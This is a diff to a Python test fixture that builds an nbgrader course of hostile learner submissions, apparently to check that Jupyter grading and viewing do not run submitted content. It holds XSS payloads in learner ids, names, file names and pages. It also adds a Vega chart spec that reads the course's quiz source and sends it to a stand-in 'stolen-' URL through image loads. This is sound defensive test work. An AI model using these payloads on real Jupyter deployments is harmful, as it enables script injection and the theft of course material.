@@ -21,6 +21,7 @@ IDS = (
     f'&lt;img src=x onerror="{SAY.format("id-entity")}"&gt;',
 )
 PLAIN = "ada"
+STOCK = "grace"  # hers was graded by stock nbgrader, which keeps what a notebook brings
 NAME = f"</script><script>{SAY.format('name')}</script><img src=x onerror={SAY.format('name-picture')}>"
 PROSE = f"""<script>{SAY.format("prose-script")}</script> <img src=x onerror="{SAY.format("prose-picture")}">
 <svg><script>{SAY.format("prose-svg")}</script></svg> <iframe srcdoc="<script>{SAY.format("prose-frame")}</script>"></iframe>
@@ -35,6 +36,27 @@ PAGES = {
     "x.xhtm": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{SAY.format("xhtm")}</script></html>',
     "x.xpdl": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{SAY.format("xpdl")}</script></html>',
     "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SAY.format("svg")}</script></svg>',
+}
+STOLEN = "http://127.0.0.1:9/stolen-"
+CHART = {  # reads the course and tells it elsewhere; no script is needed for that
+    "$schema": "https://vega.github.io/schema/vega/v5.json",
+    "data": [{"name": "read", "url": "/api/contents/source/quiz", "format": {"type": "json", "property": "content"}}],
+    "marks": [
+        {
+            "type": "image",
+            "from": {"data": "read"},
+            "encode": {
+                "enter": {"url": {"signal": f"'{STOLEN}'+datum.name"}, "width": {"value": 9}, "height": {"value": 9}}
+            },
+        }
+    ],
+}
+WORKSPACE = {"data": {"layout-restorer:data": {"main": {"dock": None}}}, "metadata": {"id": "hostile"}}
+FILES = {
+    "chart.vg.json": json.dumps(CHART),
+    "x.jupyterlab-workspace": json.dumps(WORKSPACE),
+    f"<img src=x onerror={SAY.format('file-name')}>.txt": "a name",
+    "notes.md": PROSE,
 }
 VERSION = "~{}.{}.*".format(*metadata.version("anywidget").split("."))
 MODEL = "0123456789abcdef0123456789abcdef"
@@ -81,6 +103,7 @@ def outputs() -> list[dict]:
             "application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": MODEL},
             "text/plain": "a widget",
         },
+        {"application/vnd.vega.v5+json": CHART, "text/plain": "a chart"},
     )
     return [{"output_type": "display_data", "metadata": {}, "data": data} for data in datas]
 
@@ -107,9 +130,9 @@ def leaves(ran: Path, word: str) -> str:
 
 
 def hostile_pages(folder: Path) -> None:
-    """A notebook and pages that a browser would run."""
+    """A notebook and pages that a browser would run, and files that JupyterLab acts on."""
     hostile_notebook(folder / "quiz.ipynb")
-    for name, page in PAGES.items():
+    for name, page in (PAGES | FILES).items():
         (folder / name).write_text(page, encoding="utf8")
 
 
@@ -121,8 +144,8 @@ def hostile_python(folder: Path, ran: Path, whose: str) -> None:
 
 
 def make(folder: Path) -> Tiny:
-    """The course, graded: learners with hostile ids, one with a hostile name, all with the same hostile hand-in; and the same in the
-    instructor's own folders `own` and `own-python`."""
+    """The course, graded: learners with hostile ids, all with the same hostile name and hand-in, one of them graded as stock nbgrader does; and
+    the same in the instructor's own folders `own` and `own-python`."""
     from nbgrader.api import Gradebook
 
     tiny = Tiny(folder)
@@ -130,17 +153,20 @@ def make(folder: Path) -> Tiny:
     tiny.generate()
     ran = folder.parent / "ran"
     ran.mkdir()
-    for learner in (*IDS, PLAIN):
+    for learner in (*IDS, PLAIN, STOCK):
 
         def edit(place: Path) -> None:
             hostile_pages(place)
             hostile_python(place, ran, "theirs")
+            (place / ".ipynb_checkpoints").mkdir()
+            (place / ".ipynb_checkpoints/quiz-checkpoint.ipynb").write_bytes((place / "quiz.ipynb").read_bytes())
 
         tiny.hand_in(learner, RIGHT, edit)
     with Gradebook(tiny.course.directory.db_url) as book:
-        for learner in (*IDS, PLAIN):
+        for learner in (*IDS, PLAIN, STOCK):
             book.update_or_create_student(learner, first_name=NAME, last_name=NAME, email=NAME)
     tiny.grade()
+    graded_by_stock(folder)
     tiny.feedback()
     for name in ("own", "own-python"):
         (folder / name).mkdir()
@@ -148,3 +174,18 @@ def make(folder: Path) -> Tiny:
     hostile_pages(folder / "own")
     hostile_python(folder / "own-python", ran, "own")
     return tiny
+
+
+def graded_by_stock(folder: Path) -> None:
+    """What stock nbgrader leaves in `autograded`: the learner's own cells, outputs, metadata and files, with its marks."""
+    there = folder / f"autograded/{STOCK}/quiz"
+    ours, theirs = (
+        json.loads((place / "quiz.ipynb").read_bytes()) for place in (there, folder / f"submitted/{STOCK}/quiz")
+    )
+    marks = {cell["id"]: cell["metadata"].get("nbgrader") for cell in ours["cells"] if "id" in cell}
+    for cell in theirs["cells"]:
+        if mark := marks.get(cell["id"]):
+            cell["metadata"]["nbgrader"] = mark
+    (there / "quiz.ipynb").write_text(json.dumps(theirs), encoding="utf8")
+    for name, page in (PAGES | FILES).items():
+        (there / name).write_text(page, encoding="utf8")
